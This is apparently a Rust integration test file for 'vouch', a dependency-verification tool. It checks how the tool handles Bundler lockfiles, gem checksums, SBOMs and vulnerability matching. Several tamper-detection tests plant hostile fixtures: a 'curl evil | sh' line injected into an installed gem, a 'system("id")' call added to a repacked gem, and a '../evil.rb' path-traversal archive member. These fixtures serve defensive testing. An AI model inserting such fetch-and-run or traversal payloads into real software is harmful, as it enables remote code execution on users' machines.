//! `vouch inputs`, `vouch sbom` and `vouch vulns` on Bundler projects: a
//! real one built at test time (gems made by Debian's `gem build`, locked,
//! cached and installed by Debian's real Bundler from local sources only,
//! since RubyGems' server is not reachable), and real `Gemfile.lock` files
//! of public projects (testdata/gemfile-locks/SOURCE.md), counted with
//! Ruby's own `Bundler::LockfileParser` as the oracle.

use crate::common;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

use common::{
    assert_fails_with, assert_ok, by_name, copy_tree, inputs_json, root, run_vouch, s, sboms,
    tempdir, vouch_in,
};
use serde_json::Value;

/// A command of the Ruby toolchain with a home of its own under `home`
/// and none of the caller's Bundler or RubyGems settings.
fn ruby_tool(program: &str, home: &Path) -> Command {
    let mut command = Command::new(program);
    for (key, _) in std::env::vars() {
        if key.starts_with("BUNDLE_") || key.starts_with("GEM_") || key == "RUBYOPT" {
            command.env_remove(key);
        }
    }
    command.env("HOME", home);
    command
}

/// Runs `command` in `dir`, which must succeed.
fn run_in(mut command: Command, dir: &Path) {
    let out = command
        .current_dir(dir)
        .output()
        .expect("ruby, gem and bundle must be installed (scripts/install-oracles.sh)");
    assert_ok(&out);
}

/// Writes a gem's source (`lib/<name>.rb`, a gemspec) under `dir`.
fn gem_source(dir: &Path, name: &str, version: &str, extra: &str) {
    fs::create_dir_all(dir.join("lib")).unwrap();
    fs::write(
        dir.join(format!("lib/{name}.rb")),
        format!("module M_{}\nend\n", name.replace('-', "_")),
    )
    .unwrap();
    fs::write(
        dir.join(format!("{name}.gemspec")),
        format!(
            "Gem::Specification.new do |s|\n  s.name = \"{name}\"\n  s.version = \"{version}\"\n  \
             s.summary = \"vouch test gem\"\n  s.authors = [\"vouch\"]\n  \
             s.files = [\"lib/{name}.rb\"]\n{extra}end\n"
        ),
    )
    .unwrap();
}

/// The local platform as RubyGems names it (`x86_64-linux`).
fn local_platform() -> String {
    let out = Command::new("ruby")
        .args(["-e", "print Gem::Platform.local"])
        .output()
        .expect("ruby must be installed");
    assert_ok(&out);
    String::from_utf8(out.stdout).unwrap()
}

/// The project template, built once: `proj/` with a Gemfile, the
/// Gemfile.lock real Bundler wrote, `vendor/cache` (`bundle cache --all`)
/// and `vendor/bundle` (`bundle install --local` with `path`
/// `vendor/bundle`). Its gems: alpha 1.0.0 (MIT, depends on beta), beta
/// 2.1.0 (Apache-2.0), natv 1.2.0 for the local platform, gamma 0.3.0 from
/// a git repository (tag v0.3.0) and delta 0.0.1 from a path inside the
/// project (depends on beta).
fn template() -> &'static Path {
    static TEMPLATE: OnceLock<tempfile::TempDir> = OnceLock::new();
    TEMPLATE
        .get_or_init(|| {
            let dir = tempdir();
            let d = dir.path();
            let home = d.join("home");
            let proj = d.join("proj");
            fs::create_dir_all(&home).unwrap();
            fs::create_dir_all(proj.join("vendor/cache")).unwrap();
            let platform = local_platform();
            for (name, version, extra) in [
                (
                    "alpha",
                    "1.0.0",
                    "  s.license = \"MIT\"\n  s.add_dependency \"beta\", \">= 2.0\"\n".to_string(),
                ),
                (
                    "beta",
                    "2.1.0",
                    "  s.license = \"Apache-2.0\"\n".to_string(),
                ),
                ("natv", "1.2.0", format!("  s.platform = \"{platform}\"\n")),
            ] {
                let src = d.join("src").join(name);
                gem_source(&src, name, version, &extra);
                let mut build = ruby_tool("gem", &home);
                build.args(["build", &format!("{name}.gemspec")]);
                run_in(build, &src);
                for entry in fs::read_dir(&src).unwrap() {
                    let path = entry.unwrap().path();
                    if path.extension().is_some_and(|e| e == "gem") {
                        fs::rename(
                            &path,
                            proj.join("vendor/cache").join(path.file_name().unwrap()),
                        )
                        .unwrap();
                    }
                }
            }
            let gamma = d.join("src/gamma");
            gem_source(&gamma, "gamma", "0.3.0", "");
            for args in [
                &["init", "-q"][..],
                &["add", "."],
                &[
                    "-c",
                    "user.email=t@example.com",
                    "-c",
                    "user.name=t",
                    "commit",
                    "-qm",
                    "gamma",
                ],
                &["tag", "v0.3.0"],
            ] {
                let mut git = Command::new("git");
                git.args(args);
                run_in(git, &gamma);
            }
            gem_source(
                &proj.join("local/delta"),
                "delta",
                "0.0.1",
                "  s.add_dependency \"beta\"\n",
            );
            fs::write(
                proj.join("Gemfile"),
                format!(
                    "source \"https://rubygems.org\"\n\ngem \"alpha\", \"1.0.0\"\ngem \"natv\"\n\
                     gem \"gamma\", git: \"file://{}\", tag: \"v0.3.0\"\n\
                     gem \"delta\", path: \"local/delta\"\n",
                    gamma.display()
                ),
            )
            .unwrap();
            for args in [
                &["config", "set", "--local", "path", "vendor/bundle"][..],
                &["install", "--local"],
                &["cache", "--all"],
            ] {
                let mut bundle = ruby_tool("bundle", &home);
                bundle.args(args);
                run_in(bundle, &proj);
            }
            dir
        })
        .path()
}

/// A fresh copy of the template project.
fn project() -> (tempfile::TempDir, PathBuf) {
    let dir = tempdir();
    copy_tree(&template().join("proj"), dir.path());
    let proj = dir.path().join("proj");
    (dir, proj)
}

/// `(name, version, platform, source kind)` of every spec Ruby's own
/// `Bundler::LockfileParser` reads from `lockfile`, sorted.
fn oracle_specs(lockfile: &Path) -> Vec<(String, String, String, String)> {
    let scratch = tempdir();
    fs::write(scratch.path().join("Gemfile"), "").unwrap();
    let mut ruby = ruby_tool("ruby", scratch.path());
    ruby.args([
        "-rbundler",
        "-e",
        "l = Bundler::LockfileParser.new(File.read(ARGV[0])); \
         l.specs.each { |s| puts [s.name, s.version, s.platform, \
         s.source.class.name.split('::').last].join(' ') }",
    ])
    .arg(lockfile)
    .env("BUNDLE_GEMFILE", scratch.path().join("Gemfile"))
    .current_dir(scratch.path());
    let out = ruby.output().expect("ruby and bundler must be installed");
    assert_ok(&out);
    let mut specs: Vec<(String, String, String, String)> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|line| {
            let parts: Vec<&str> = line.split(' ').collect();
            assert_eq!(parts.len(), 4, "{line}");
            (
                parts[0].into(),
                parts[1].into(),
                parts[2].into(),
                parts[3].into(),
            )
        })
        .collect();
    specs.sort();
    specs
}

/// Each platform as Ruby's `Gem::Platform#to_s` spells it.
fn ruby_platforms(platforms: &[String]) -> Vec<String> {
    let scratch = tempdir();
    let mut ruby = ruby_tool("ruby", scratch.path());
    ruby.args(["-e", "ARGV.each { |p| puts Gem::Platform.new(p) }"])
        .args(platforms);
    let out = ruby.output().expect("ruby must be installed");
    assert_ok(&out);
    let normal: Vec<String> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(str::to_string)
        .collect();
    assert_eq!(normal.len(), platforms.len());
    normal
}

/// `sha256sum FILE`: the digest, from coreutils rather than vouch.
fn sha256sum(path: &Path) -> String {
    let out = Command::new("sha256sum").arg(path).output().unwrap();
    assert_ok(&out);
    String::from_utf8(out.stdout).unwrap()[..64].to_string()
}

/// The one installed directory of `full` under vendor/bundle, relative.
fn installed(proj: &Path, full: &str) -> String {
    let ruby = proj.join("vendor/bundle/ruby");
    let abis: Vec<String> = fs::read_dir(&ruby)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(abis.len(), 1, "{abis:?}");
    format!("vendor/bundle/ruby/{}/gems/{full}", abis[0])
}

/// The input whose purl is `purl`.
fn by_purl<'a>(inputs: &'a [Value], purl: &str) -> &'a Value {
    inputs
        .iter()
        .find(|i| i["purl"] == purl)
        .unwrap_or_else(|| panic!("no input {purl} in {inputs:#?}"))
}

/// The reason of a mismatched input.
fn reason(input: &Value) -> &str {
    assert_eq!(input["match"]["status"], "mismatch", "{input}");
    input["match"]["reason"].as_str().unwrap()
}

#[test]
fn every_locked_gem_is_listed_and_matches_what_bundler_cached_and_installed() {
    let (_dir, proj) = project();
    let specs = oracle_specs(&proj.join("Gemfile.lock"));
    let platform = local_platform();
    // The PATH gem inside the project is the project's own code.
    let oracle: Vec<&(String, String, String, String)> =
        specs.iter().filter(|s| s.3 != "Path").collect();
    assert_eq!(oracle.len(), 4, "{specs:?}");
    assert!(specs.iter().any(|s| s.0 == "delta" && s.3 == "Path"));
    let inputs = inputs_json(&proj);
    assert_eq!(inputs.len(), oracle.len(), "{inputs:#?}");
    for (name, version, spec_platform, kind) in oracle {
        let input = by_name(&inputs, name);
        assert_eq!(input["version"], version.as_str(), "{input}");
        assert_eq!(input["ecosystem"], "gem");
        assert_eq!(input["match"]["status"], "match", "{input}");
        let observed = input["observed"].as_str().unwrap();
        if kind == "Rubygems" {
            let full = if spec_platform == "ruby" {
                format!("{name}-{version}")
            } else {
                format!("{name}-{version}-{spec_platform}")
            };
            let gem = format!("vendor/cache/{full}.gem");
            let want = format!("sha256:{}", sha256sum(&proj.join(&gem)));
            assert!(observed.split(',').any(|d| d == want), "{input}");
            assert!(
                observed.split(',').any(|d| d.starts_with("dirHash:")),
                "{input}"
            );
            assert_eq!(
                input["path"],
                format!("{gem},{}", installed(&proj, &full)),
                "{input}"
            );
            assert_eq!(
                input["uri"],
                format!("https://rubygems.org/gems/{full}.gem"),
                "{input}"
            );
        } else {
            assert_eq!(kind, "Git");
            assert!(observed.starts_with("dirHash:"), "{input}");
            assert!(input["uri"].as_str().unwrap().starts_with(&format!(
                "git+file://{}#",
                template().join("src/gamma").display()
            )));
        }
    }
    let natv = by_purl(&inputs, &format!("pkg:gem/natv@1.2.0?platform={platform}"));
    assert_eq!(natv["name"], "natv");
    let alpha = by_purl(&inputs, "pkg:gem/alpha@1.0.0");
    assert_eq!(alpha["license"], "MIT");
    assert_eq!(
        alpha["dependencies"],
        serde_json::json!(["pkg:gem/beta@2.1.0"])
    );
    assert_eq!(by_name(&inputs, "beta")["license"], "Apache-2.0");
    let gamma = by_name(&inputs, "gamma");
    assert!(
        gamma["purl"]
            .as_str()
            .unwrap()
            .starts_with("pkg:gem/gamma@0.3.0?vcs_url=git%2Bfile://"),
        "{gamma}"
    );
    // Nothing in the lock declares a digest (Bundler 2.3 writes no
    // CHECKSUMS): the observed digests stand alone.
    assert!(
        inputs.iter().all(|i| i["declared"].is_null()),
        "{inputs:#?}"
    );
}

#[test]
fn checksums_declare_the_gem_digests_and_a_wrong_one_is_named() {
    let (_dir, proj) = project();
    let platform = local_platform();
    let digest = |gem: &str| sha256sum(&proj.join("vendor/cache").join(gem));
    let lock = fs::read_to_string(proj.join("Gemfile.lock")).unwrap();
    let checksums = format!(
        "CHECKSUMS\n  alpha (1.0.0) sha256={}\n  beta (2.1.0) sha256={}\n  natv (1.2.0-{platform}) sha256={}\n\n",
        digest("alpha-1.0.0.gem"),
        digest("beta-2.1.0.gem"),
        digest(&format!("natv-1.2.0-{platform}.gem")),
    );
    let with = lock.replace("PLATFORMS\n", &format!("{checksums}PLATFORMS\n"));
    fs::write(proj.join("Gemfile.lock"), &with).unwrap();
    let inputs = inputs_json(&proj);
    for name in ["alpha", "beta", "natv"] {
        let input = by_name(&inputs, name);
        assert_eq!(input["match"]["status"], "match", "{input}");
        let declared = input["declared"].as_str().unwrap();
        assert!(
            input["observed"]
                .as_str()
                .unwrap()
                .split(',')
                .any(|d| d == declared),
            "{input}"
        );
    }
    // One digit off: a mismatch naming the .gem and both digests.
    let wrong_digest = digest("beta-2.1.0.gem");
    let flipped = format!(
        "{}{}",
        &wrong_digest[..63],
        if wrong_digest.ends_with('0') {
            '1'
        } else {
            '0'
        }
    );
    fs::write(
        proj.join("Gemfile.lock"),
        with.replace(&wrong_digest, &flipped),
    )
    .unwrap();
    let inputs = inputs_json(&proj);
    let why = reason(by_name(&inputs, "beta"));
    assert!(
        why.contains("vendor/cache/beta-2.1.0.gem has SHA-256"),
        "{why}"
    );
    assert!(why.contains(&flipped), "{why}");
    let out = run_vouch(&proj, "inputs .");
    assert_eq!(
        out.status.code(),
        Some(1),
        "a mismatch fails `vouch inputs`"
    );
}

/// A CHECKSUMS line for another platform's build of the gem must not be
/// read as this platform's declared digest.
#[test]
fn a_checksum_for_another_platform_does_not_vouch_for_this_one_issue_18() {
    let (_dir, proj) = project();
    let platform = local_platform();
    let gem = proj.join(format!("vendor/cache/natv-1.2.0-{platform}.gem"));
    let lock = fs::read_to_string(proj.join("Gemfile.lock")).unwrap();
    // The right digest, filed under another platform.
    let checksums = format!(
        "CHECKSUMS\n  natv (1.2.0-arm64-darwin) sha256={}\n\n",
        sha256sum(&gem)
    );
    fs::write(
        proj.join("Gemfile.lock"),
        lock.replace("PLATFORMS\n", &format!("{checksums}PLATFORMS\n")),
    )
    .unwrap();
    let inputs = inputs_json(&proj);
    let natv = by_name(&inputs, "natv");
    assert!(natv["declared"].is_null(), "{natv}");
}

#[test]
fn a_tampered_installed_file_is_caught_and_named_issue_18() {
    let (_dir, proj) = project();
    let alpha = installed(&proj, "alpha-1.0.0");
    fs::write(
        proj.join(&alpha).join("lib/alpha.rb"),
        "module M_alpha\nend\nsystem('curl evil | sh')\n",
    )
    .unwrap();
    let beta = installed(&proj, "beta-2.1.0");
    fs::write(proj.join(&beta).join("lib/extra.rb"), "# planted\n").unwrap();
    let inputs = inputs_json(&proj);
    assert_eq!(
        reason(by_name(&inputs, "alpha")),
        format!("{alpha}/lib/alpha.rb differs from the one in vendor/cache/alpha-1.0.0.gem")
    );
    assert_eq!(
        reason(by_name(&inputs, "beta")),
        format!("{beta}/lib/extra.rb is not in vendor/cache/beta-2.1.0.gem")
    );
    // The others are untouched.
    assert_eq!(by_name(&inputs, "natv")["match"]["status"], "match");
    // A file removed from the installed gem is named too.
    fs::remove_file(proj.join(&alpha).join("lib/alpha.rb")).unwrap();
    let inputs = inputs_json(&proj);
    assert_eq!(
        reason(by_name(&inputs, "alpha")),
        format!("{alpha}/lib/alpha.rb is missing (it is in vendor/cache/alpha-1.0.0.gem)")
    );
}

/// A .gem of another gem, renamed to the locked gem's file name, is a
/// mismatch: its metadata names the gem it really is.
#[test]
fn a_gem_whose_metadata_names_another_gem_is_caught_issue_18() {
    let (_dir, proj) = project();
    fs::copy(
        proj.join("vendor/cache/beta-2.1.0.gem"),
        proj.join("vendor/cache/alpha-1.0.0.gem"),
    )
    .unwrap();
    let inputs = inputs_json(&proj);
    let why = reason(by_name(&inputs, "alpha"));
    assert_eq!(
        why,
        "vendor/cache/alpha-1.0.0.gem: its metadata.gz names beta 2.1.0 (ruby), \
         Gemfile.lock locks alpha 1.0.0 (ruby)"
    );
    // A .gem whose bytes are altered after its checksums.yaml.gz was made:
    // a flipped byte in data.tar.gz.
    let (_dir2, proj2) = project();
    let path = proj2.join("vendor/cache/beta-2.1.0.gem");
    let mut bytes = fs::read(&path).unwrap();
    let at = find(&bytes, b"data.tar.gz").expect("a data.tar.gz member") + 512 + 100;
    bytes[at] ^= 0x01;
    fs::write(&path, bytes).unwrap();
    let inputs = inputs_json(&proj2);
    let why = reason(by_name(&inputs, "beta"));
    assert!(why.starts_with("vendor/cache/beta-2.1.0.gem"), "{why}");
}

/// A .gem repacked with an altered file (valid archives, with GNU tar and
/// gzip) but the checksums.yaml.gz it came with: its data.tar.gz is not
/// the one the gem's own checksums name.
#[test]
fn a_repacked_gem_is_caught_by_its_own_checksums_issue_18() {
    let (dir, proj) = project();
    let work = dir.path().join("repack");
    fs::create_dir_all(work.join("data")).unwrap();
    let gem = proj.join("vendor/cache/beta-2.1.0.gem");
    let sh = |script: &str| {
        let out = Command::new("sh")
            .args(["-ec", script])
            .current_dir(&work)
            .output()
            .unwrap();
        assert_ok(&out);
    };
    sh(&format!(
        "tar xf '{}' && tar xzf data.tar.gz -C data && echo 'system(\"id\")' >> data/lib/beta.rb \
         && (cd data && tar czf ../data.tar.gz lib) \
         && tar cf beta.gem metadata.gz data.tar.gz checksums.yaml.gz",
        gem.display()
    ));
    fs::copy(work.join("beta.gem"), &gem).unwrap();
    let inputs = inputs_json(&proj);
    assert_eq!(
        reason(by_name(&inputs, "beta")),
        "vendor/cache/beta-2.1.0.gem: the SHA-256 of its data.tar.gz is not the one its \
         checksums.yaml.gz gives"
    );
    // A member whose path leaves the gem's directory (GNU tar keeps `..`
    // with -P): refused before anything else is read of it.
    sh(
        "echo 'x' > evil.rb && cd data && tar czPf ../data.tar.gz ../evil.rb lib \
        && cd .. && tar cf beta.gem metadata.gz data.tar.gz checksums.yaml.gz",
    );
    fs::copy(work.join("beta.gem"), &gem).unwrap();
    let inputs = inputs_json(&proj);
    assert_eq!(
        reason(by_name(&inputs, "beta")),
        "vendor/cache/beta-2.1.0.gem is not a readable .gem: a member path leaves the gem: \
         ../evil.rb"
    );
}

/// Where `needle` first occurs in `haystack`.
fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

/// A PATH source pointing out of the project is never read: the gem is an
/// input that is a mismatch, named.
#[test]
fn a_path_source_leaving_the_project_is_not_read_issue_18() {
    let (dir, proj) = project();
    let outside = dir.path().join("outside");
    fs::create_dir_all(&outside).unwrap();
    fs::write(outside.join("secret"), "not for vouch\n").unwrap();
    common::edit(
        &proj.join("Gemfile.lock"),
        "  remote: local/delta\n",
        "  remote: ../outside\n",
    );
    let inputs = inputs_json(&proj);
    let delta = by_name(&inputs, "delta");
    let why = reason(delta);
    assert!(
        why.starts_with("Gemfile.lock: the PATH source of delta-0.0.1 is "),
        "{why}"
    );
    assert!(
        why.ends_with("outside the project: vouch does not read it"),
        "{why}"
    );
    assert!(delta["observed"].is_null(), "{delta}");
    // An absolute path as well.
    common::edit(
        &proj.join("Gemfile.lock"),
        "  remote: ../outside\n",
        "  remote: /etc\n",
    );
    let inputs = inputs_json(&proj);
    assert!(reason(by_name(&inputs, "delta")).contains("/etc, outside the project"));
}

#[test]
fn a_malformed_lockfile_is_refused_with_its_line() {
    let (_dir, proj) = project();
    let lock = fs::read_to_string(proj.join("Gemfile.lock")).unwrap();
    let line = lock.lines().position(|l| l == "    beta (2.1.0)").unwrap() + 1;
    fs::write(
        proj.join("Gemfile.lock"),
        lock.replace("    beta (2.1.0)\n", "    beta 2.1.0\n"),
    )
    .unwrap();
    let out = run_vouch(&proj, "inputs .");
    assert_fails_with(
        &out,
        &format!("invalid Gemfile.lock in ./Gemfile.lock: line {line}: not a spec"),
    );
}

#[test]
fn sboms_of_a_bundler_project_pass_both_validators() {
    let (_dir, proj) = project();
    let (_sboms, cdx, spdx) = sboms(s(&proj));
    let cdx: Value = serde_json::from_slice(&fs::read(cdx).unwrap()).unwrap();
    let purls: Vec<&str> = cdx["components"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|c| c["purl"].as_str())
        .collect();
    assert!(purls.contains(&"pkg:gem/alpha@1.0.0"), "{purls:?}");
    let text = fs::read_to_string(spdx).unwrap();
    assert!(text.contains("pkg:gem/beta@2.1.0"), "{text}");
}

/// Real lockfiles of public projects: vouch lists every spec Ruby's own
/// parser reads (but the PATH gems inside the project), with each
/// CHECKSUMS digest on its own platform's gem.
#[test]
fn real_lockfiles_parse_with_the_counts_bundler_reads() {
    let dir = root().join("testdata/gemfile-locks");
    let mut seen = 0;
    let mut nokogiri = 0;
    for entry in fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "lock") {
            continue;
        }
        seen += 1;
        let specs = oracle_specs(&path);
        let project = tempdir();
        fs::copy(&path, project.path().join("Gemfile.lock")).unwrap();
        let inputs = inputs_json(project.path());
        let mut listed: Vec<(String, String, String, String)> = inputs
            .iter()
            .map(|i| {
                let purl = i["purl"].as_str().unwrap();
                let platform = purl
                    .split_once("?platform=")
                    .map_or("ruby", |(_, p)| p)
                    .to_string();
                let kind = if purl.contains("vcs_url=") {
                    "Git"
                } else {
                    "Rubygems"
                };
                (
                    i["name"].as_str().unwrap().to_string(),
                    i["version"].as_str().unwrap().to_string(),
                    platform,
                    kind.to_string(),
                )
            })
            .collect();
        // Ruby's parser gives each platform as its Gem::Platform names it,
        // and this RubyGems spells `x86_64-linux-gnu` as `x86_64-linux`:
        // vouch keeps the lockfile's spelling (the .gem file's name), so
        // Ruby normalises vouch's too before they are compared.
        let platforms: Vec<String> = listed.iter().map(|l| l.2.clone()).collect();
        for (entry, normal) in listed.iter_mut().zip(ruby_platforms(&platforms)) {
            entry.2 = normal;
        }
        listed.sort();
        let want: Vec<(String, String, String, String)> =
            specs.into_iter().filter(|s| s.3 != "Path").collect();
        assert_eq!(listed, want, "{}", path.display());
        // The shipped criticality rules mark nokogiri (it bundles libxml2),
        // in each of its platform builds, and not its neighbours.
        for input in &inputs {
            let critical = input["critical"].as_array().unwrap();
            if input["name"] == "nokogiri" {
                nokogiri += 1;
                assert!(
                    critical
                        .iter()
                        .any(|r| r.as_str().unwrap().starts_with("data-format-parsers:")),
                    "{input}"
                );
            } else if input["name"] == "racc" || input["name"] == "rake" {
                assert!(critical.is_empty(), "{input}");
            }
        }
        // Each GEM input declares the digest of its own line of CHECKSUMS.
        let text = fs::read_to_string(&path).unwrap();
        for input in &inputs {
            if input["purl"].as_str().unwrap().contains("vcs_url=") {
                assert!(input["declared"].is_null(), "{input}");
                continue;
            }
            let name = input["name"].as_str().unwrap();
            let version = input["version"].as_str().unwrap();
            let full = match input["purl"].as_str().unwrap().split_once("?platform=") {
                Some((_, platform)) => format!("{version}-{platform}"),
                None => version.to_string(),
            };
            let line_start = format!("\n  {name} ({full}) sha256=");
            let want = text.find(&line_start).map(|at| {
                let hex = &text[at + line_start.len()..at + line_start.len() + 64];
                format!("sha256:{hex}")
            });
            assert_eq!(input["declared"].as_str(), want.as_deref(), "{input}");
            assert_eq!(input["match"]["status"], "not-vendored", "{input}");
        }
    }
    assert_eq!(seen, 4);
    // rails' five builds of nokogiri and dev_gems' eight.
    assert!(nokogiri >= 10, "{nokogiri}");
}

/// The real rack advisory (testdata/osv-rubygems) matches rack pinned at
/// an affected version, in RubyGems' order, and not the fixed ones.
#[test]
fn vulns_match_gems_in_rubygems_order() {
    let osv = root().join("testdata/osv-rubygems");
    let findings = |version: &str| {
        let dir = tempdir();
        fs::write(
            dir.path().join("Gemfile.lock"),
            format!(
                "GEM\n  remote: https://rubygems.org/\n  specs:\n    rack ({version})\n\n\
                 PLATFORMS\n  ruby\n\nDEPENDENCIES\n  rack\n\nBUNDLED WITH\n   2.5.3\n"
            ),
        )
        .unwrap();
        let out = vouch_in(
            dir.path(),
            &["vulns", ".", "--osv", s(&osv), "--output", "json"],
        );
        assert_ok(&out);
        let json: Value = serde_json::from_slice(&out.stdout).unwrap();
        json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| {
                (
                    f["id"].as_str().unwrap().to_string(),
                    f["input"]["version"].as_str().unwrap().to_string(),
                )
            })
            .collect::<Vec<_>>()
    };
    let hit = |v: &str| vec![("GHSA-22f2-v57c-j9cx".to_string(), v.to_string())];
    assert_eq!(findings("2.2.8"), hit("2.2.8"));
    assert_eq!(findings("3.0.9"), hit("3.0.9"));
    assert_eq!(
        findings("3.0.0.beta1"),
        Vec::new(),
        "below 3.0.0, above 2.2.8.1"
    );
    assert_eq!(findings("2.2.8.1"), Vec::new());
    assert_eq!(findings("2.2.9"), Vec::new());
    assert_eq!(findings("3.0.9.1"), Vec::new());
    assert_eq!(findings("3.0.10"), Vec::new());
}

/// `vouch unbundle` names Debian's `ruby-<name>` package for each gem,
/// found in the archive this machine verified, keeps every gem (the swap
/// is not implemented for gems), and `--write` changes nothing.
#[test]
fn unbundle_names_the_ruby_package_and_writes_nothing() {
    let dir = tempdir();
    let lock = "GEM\n  remote: https://rubygems.org/\n  specs:\n    net_http_unknown_gem_xyz (1.0.0)\n    rack (2.2.4)\n\n\
                PLATFORMS\n  ruby\n\nDEPENDENCIES\n  rack\n\nBUNDLED WITH\n   2.5.3\n";
    fs::write(dir.path().join("Gemfile.lock"), lock).unwrap();
    let out = vouch_in(
        dir.path(),
        &[
            "unbundle", ".", "--distro", "debian", "--all", "--output", "json",
        ],
    );
    assert_ok(&out);
    let plan: Value = serde_json::from_slice(&out.stdout).unwrap();
    let steps = plan["steps"].as_array().unwrap();
    assert_eq!(steps.len(), 2, "{plan:#}");
    let rack = steps.iter().find(|s| s["name"] == "rack").unwrap();
    assert_eq!(rack["ecosystem"], "gem", "{rack:#}");
    assert_eq!(rack["action"], "keep", "{rack:#}");
    assert_eq!(rack["package"], "ruby-rack", "{rack:#}");
    // Debian 12 packages rack 2.2.x, newer than 2.2.4.
    assert_eq!(rack["delta"], "newer", "{rack:#}");
    assert!(
        rack["reason"]
            .as_str()
            .unwrap()
            .contains("the swap itself is not implemented for gems"),
        "{rack:#}"
    );
    let unknown = steps.iter().find(|s| s["name"] != "rack").unwrap();
    assert!(unknown["package"].is_null(), "{unknown:#}");
    assert!(
        unknown["reason"]
            .as_str()
            .unwrap()
            .contains("ruby-net-http-unknown-gem-xyz"),
        "{unknown:#}"
    );
    let out = vouch_in(
        dir.path(),
        &["unbundle", ".", "--distro", "debian", "--all", "--write"],
    );
    assert_ok(&out);
    assert_eq!(
        fs::read_to_string(dir.path().join("Gemfile.lock")).unwrap(),
        lock
    );
    let left: Vec<_> = fs::read_dir(dir.path()).unwrap().collect();
    assert_eq!(left.len(), 1, "--write wrote nothing: {left:?}");
}
